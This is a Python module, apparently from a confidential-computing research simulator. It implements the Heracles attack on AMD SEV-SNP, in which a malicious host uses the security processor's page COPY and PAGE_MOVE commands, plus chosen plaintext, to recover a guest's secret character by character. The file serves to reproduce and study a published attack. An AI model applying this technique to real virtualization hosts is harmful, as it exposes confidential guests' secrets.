"""The security processor encrypts what the attacker knows where a secret lies (row 32; Heracles, CCS 2025).

It moves pages of a guest that runs, and encrypts them for where they go to. So a page whose contents came from outside
goes to where the secret was: what has the secret's ciphertext there is the secret. SNP moves a page with what the RMP
says of it; the older interface copies, and asks for no more.
"""

from __future__ import annotations

from collections.abc import Generator

from node.operations import Answer, HostRead, HostWrite, PspAnswer, PspCommand, RmpUpdate
from psp import command_buffers as buffers
from psp import swap_buffers
from psp.byte_layout import ByteLayout
from psp.commands import LegacyCommand, SnpCommand
from psp.system_bus import RmpEntry
from workloads.attacks.claims import WorkedOut
from workloads.attacks.console import ALPHABET, CELL_BYTES, CHARACTERS, cell
from workloads.attacks.nested_remap import point, smash
from workloads.attacks.target import LET_IT_RUN, WRITE_BACK, Attack, AttackBatch, Target
from workloads.attacks.target_page import Page
from workloads.attacks.vault import PAGE_BYTES

_LENGTH = CHARACTERS * CELL_BYTES
_Moved = Generator[AttackBatch, tuple[Answer, ...], bool]


def guess_characters(target: Target) -> Attack:
    """Row 32: send each character of the alphabet for every cell, and see which cells are the console's ciphertext."""
    victim = target.victim
    move, look = (_move if victim.gctx else _copy), HostRead(victim.secret.spa, _LENGTH)
    yield LET_IT_RUN
    yield WRITE_BACK
    (secret,) = yield (look,)
    yield smash(victim.secret, victim.request)
    if not (yield from move(target, victim.secret, victim.secret.spa, target.spare[0])):
        return
    yield (point(victim, victim.secret, target.spare[0]),)
    found = bytearray(CHARACTERS)
    for character in ALPHABET:
        yield (HostWrite(victim.inbox.spa, cell(character) * CHARACTERS, encrypted=victim.c_bit),)
        yield WRITE_BACK
        yield LET_IT_RUN
        yield WRITE_BACK
        yield from move(target, victim.request, victim.request.spa, victim.secret.spa)
        (known,) = yield (look,)
        for number in _same(secret, known):
            found[number] = character
        if victim.gctx:  # A copy has left the page where it was.
            yield from move(target, victim.request, victim.secret.spa, victim.request.spa)
    yield (WorkedOut(bytes(found)),)


def _copy(target: Target, page: Page, source: int, destination: int) -> _Moved:
    """COPY to a frame that is the host's; where there is an RMP, firmware stores only to what was lent to it."""
    del page  # Nothing says whose it is.
    handle = target.victim.handle
    yield (RmpUpdate(destination, PAGE_BYTES, RmpEntry(assigned=True, immutable=True)),)
    done = yield from _call(target, LegacyCommand.COPY, buffers.Copy(handle, PAGE_BYTES, source, destination))
    yield from _call(target, SnpCommand.PAGE_RECLAIM, buffers.SnpPageReclaim(destination))
    yield (RmpUpdate(destination, PAGE_BYTES, RmpEntry()),)
    return done


def _move(target: Target, page: Page, source: int, destination: int) -> _Moved:
    """SNP_PAGE_MOVE to a frame that is free, with what it asks for and leaves behind; undone if it is refused."""
    gctx, asid = target.victim.gctx, target.victim.asid
    entry = RmpEntry(assigned=True, immutable=True, gpa=page.gpa, asid=asid)
    yield tuple(RmpUpdate(spa, PAGE_BYTES, entry) for spa in (source, destination))
    done = yield from _call(target, SnpCommand.PAGE_MOVE, swap_buffers.SnpPageMove(gctx, 0, source, destination))
    for spa in (source, destination):
        yield from _call(target, SnpCommand.PAGE_RECLAIM, buffers.SnpPageReclaim(spa))
    yield (RmpUpdate(source if done else destination, PAGE_BYTES, RmpEntry()),)
    return done


def _call(target: Target, command: int, buffer: ByteLayout) -> _Moved:
    (answer,) = yield (PspCommand(command, target.command_page, buffer.pack()),)
    yield WRITE_BACK
    return isinstance(answer, PspAnswer) and answer.status == 0


def _same(secret: Answer, known: Answer) -> list[int]:
    """Numbers of the cells that are one ciphertext in both."""
    if not isinstance(secret, bytes) or not isinstance(known, bytes):
        return []
    places = range(0, _LENGTH, CELL_BYTES)
    return [at // CELL_BYTES for at in places if secret[at : at + CELL_BYTES] == known[at : at + CELL_BYTES]]
